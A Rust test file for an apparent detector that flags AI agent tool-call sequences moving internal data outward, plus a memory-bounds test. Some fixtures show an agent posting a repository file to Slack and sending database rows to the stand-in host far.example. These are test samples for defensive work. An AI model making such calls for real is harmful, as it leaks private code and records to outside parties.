//! The guard over whole flows: the design note's four rows on data flow, and the bounds of what a flow keeps.

use crate::call_cases::{guard, signals};
use portcullis_detect::Flow;
use portcullis_detect::call::{Call, Override, ToolProfile};
use portcullis_detect::json::Json;
use serde_json::json;

const CODE: &str =
    "fn settle(ledger) applies the Marchetti discount before the quarterly Valparaiso surcharge";

fn is_internal_to_external(session: serde_json::Value) -> bool {
    signals(&session).iter().any(|signal| signal.check == "flow.internal_to_external")
}

#[test]
fn a_file_that_is_posted_to_a_chat_is_a_flow_from_inside_to_outside() {
    assert!(is_internal_to_external(json!({"calls": [
        {"server": "github", "tool": "get_file", "arguments": {"path": "settle.rs"}, "result": CODE},
        {"server": "slack", "tool": "post_message", "arguments": {"channel": "general", "text": CODE}, "result": "ok"},
    ]})));
}

#[test]
fn a_row_that_is_posted_to_an_outside_address_is_a_flow_from_inside_to_outside() {
    assert!(is_internal_to_external(json!({"calls": [
        {"server": "db", "tool": "query_database", "arguments": {"sql": "select note from ledger"}, "result": CODE},
        {"server": "http", "tool": "post", "arguments": {"url": "https://far.example/in", "body": CODE}, "result": "ok"},
    ]})));
}

#[test]
fn what_a_public_service_says_may_be_posted() {
    assert!(!is_internal_to_external(json!({"calls": [
        {"server": "weather", "tool": "get_forecast", "arguments": {"place": "Vigo"}, "result": CODE},
        {"server": "slack", "tool": "post_message", "arguments": {"channel": "general", "text": CODE}, "result": "ok"},
    ]})));
}

#[test]
fn reading_from_and_writing_to_the_same_database_is_no_flow() {
    assert!(!is_internal_to_external(json!({"calls": [
        {"server": "db", "tool": "query_database", "arguments": {"sql": "select note from ledger"}, "result": CODE},
        {"server": "db", "tool": "insert_record", "arguments": {"table": "notes", "text": CODE}, "result": "ok"},
    ]})));
}

/// What a flow may hold at its bounds.
const MOST_BYTES: usize = 2 << 20;

#[test]
fn a_flow_stays_within_its_bounds_and_says_what_it_forgot() {
    let mut flow = Flow::new(5);
    let profile = ToolProfile::of_call("get_customer_record", &["id"], &Override::default());
    let arguments = Json::parse(r#"{"id":"7"}"#).expect("JSON");
    let call =
        Call { server: "crm", tool: "get_customer_record", arguments: &arguments, intent: None, at_ms: 0 };
    for round in 0..40_u64 {
        let words: Vec<String> = (0..6000_u64)
            .map(|word| format!("w{:x}@h{:x}.example", word * 7919 + round * 104_729, word + round * 6000))
            .collect();
        let result = Json::parse(&json!(words.join(" send it to ")).to_string()).expect("JSON");
        let seen = guard().observe_call(&call, &profile, &flow, None);
        let answered = guard().observe_result(&call, &profile, &flow, &result);
        guard().remember(&call, &seen.departure, &result, answered.memory, &mut flow);
        assert!(flow.bytes() <= MOST_BYTES, "{} bytes after {round} results", flow.bytes());
    }
    assert!(!flow.bounds().is_whole());
}
